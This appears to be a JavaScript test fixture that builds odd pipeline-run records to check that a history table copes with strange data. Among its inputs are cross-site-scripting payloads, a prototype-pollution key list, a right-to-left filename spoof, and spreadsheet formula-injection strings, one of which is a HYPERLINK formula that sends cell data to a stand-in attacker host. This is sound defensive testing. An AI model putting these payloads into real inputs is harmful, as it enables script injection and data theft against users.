// A pipeline whose every run is strange in one way and still a run: what a table must show, keep
// and not choke on. Rows that are no runs at all are in damaged-rows.js.

const MINUTE_MS = 60_000;
const DAY_MS = 86_400_000;

const MARKUP = [
  '<img src=x onerror="alert(1)">',
  '"><script>alert(document.domain)</script>',
  "javascript:alert('run')//",
  '{{constructor.constructor("alert(1)")()}}',
];
const FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1)', '+1+1', '-2+3', '@SUM(A1:A9)'];
const OBJECT_KEYS = ['__proto__', 'constructor', 'toString'];
const RIGHT_TO_LEFT = 'نجح التشغيل';
const OVERRIDE = '\u202Egnp.exe\u202C'; // reads "exe.png" where the override is honoured
const LONG = `${'很长的状态 '.repeat(400)}end`;
const UNBROKEN = 'W'.repeat(2_000);

/** @typedef {import('./run-state.js').OddFields} OddFields */
/** @typedef {[what: string, fields: OddFields | ((start: number) => OddFields)]} Oddity */

/**
 * @param {number} anchor
 * @returns {Oddity[]}
 */
function oddities(anchor) {
  return [
    ['an ordinary run, for comparison', {}],
    ['no person', { creatorAccountId: null }],
    ['an empty person', { creatorAccountId: '' }],
    ['a person as a number', { creatorAccountId: 1222222222 }],
    ['no creator field', { creatorAccountId: undefined }],
    ['started through the API', { triggerMode: 4, creatorAccountId: '' }],
    ...[0, 99, -1, 2_147_483_647, null].map((mode) => trigger(mode)),
    ['no trigger field', { triggerMode: undefined }],
    ['a trigger as text', { triggerMode: '3' }],
    ['a trigger that is a fraction', { triggerMode: 1.5 }],
    ...['CANCELED', 'CANCEL', 'SUCCES', 'success', 'SKIPPED', '', ' ', 'A\u0000B', 'a\nb\tc'].map(
      status,
    ),
    [
      'the documentation’s own sample',
      { status: '状态 FAIL 运行失败 SUCCESS 运行成功 RUNNING 运行中' },
    ],
    ['a null status', { status: null }],
    ['no status field', { status: undefined }],
    ['a status that is a number', { status: 7 }],
    ['an unknown status without an end', { status: 'QUEUED', endTime: null }],
    ...[...MARKUP, ...FORMULAS, ...OBJECT_KEYS, RIGHT_TO_LEFT, OVERRIDE, LONG, UNBROKEN].flatMap(
      (text) => [status(text), creator(text)],
    ),
    ['running, end 0', { status: 'RUNNING', endTime: 0 }],
    [
      'running for three days',
      { status: 'RUNNING', startTime: anchor - 3 * DAY_MS, endTime: null },
    ],
    ['running with an end', { status: 'RUNNING' }],
    ['running from the future', { status: 'RUNNING', startTime: anchor + DAY_MS, endTime: null }],
    ['waiting', { status: 'WAITING', endTime: null }],
    ['over, end 0', { endTime: 0 }],
    ['over, no end', { endTime: null }],
    ['over, no end field', { endTime: undefined }],
    ['over before it began', (start) => ({ endTime: start - 1 })],
    ['over at once', (start) => ({ endTime: start })],
    ['took 400 days', (start) => ({ startTime: start - 400 * DAY_MS })],
    ['no start', { startTime: null }],
    ['no start field', { startTime: undefined }],
    ['a start as text', (start) => ({ startTime: String(start) })],
    ['times in seconds', { startTime: 1_586_863_220, endTime: 1_586_863_280 }],
    ['a negative start', { startTime: -1 }],
    ['an end past the last date', { endTime: 8.64e15 + 1 }],
    ['an end that is a word', { endTime: 'soon' }],
    ['a run of another pipeline', { pipelineId: '4711' }],
    ['no pipeline field', { pipelineId: undefined }],
  ];
}

/**
 * @param {string} text
 * @returns {Oddity}
 */
function status(text) {
  return [`status ${shortened(text)}`, { status: text }];
}

/**
 * @param {string} text
 * @returns {Oddity}
 */
function creator(text) {
  return [`creator ${shortened(text)}`, { creatorAccountId: text }];
}

/**
 * @param {number | null} mode
 * @returns {Oddity}
 */
function trigger(mode) {
  return [`trigger ${mode}`, { triggerMode: mode }];
}

/** @param {string} text */
function shortened(text) {
  return JSON.stringify(text.length > 40 ? `${text.slice(0, 40)}…` : text);
}

/**
 * @param {import('./catalogue.js').Pipeline} pipeline
 * @param {number} anchor
 * @returns {import('./history.js').RunRecord[]}
 */
export function oddRecords(pipeline, anchor) {
  const all = oddities(anchor);
  return all.map(([oddity, fields], i) => {
    const startTime = anchor - (all.length - i) * 11 * MINUTE_MS;
    return {
      startTime,
      waitMs: 0,
      durationMs: 5 * MINUTE_MS,
      outcome: 'SUCCESS',
      triggerMode: 1,
      creatorAccountId: pipeline.team[i % pipeline.team.length].accountId,
      odd: typeof fields === 'function' ? fields(startTime) : fields,
      oddity,
    };
  });
}
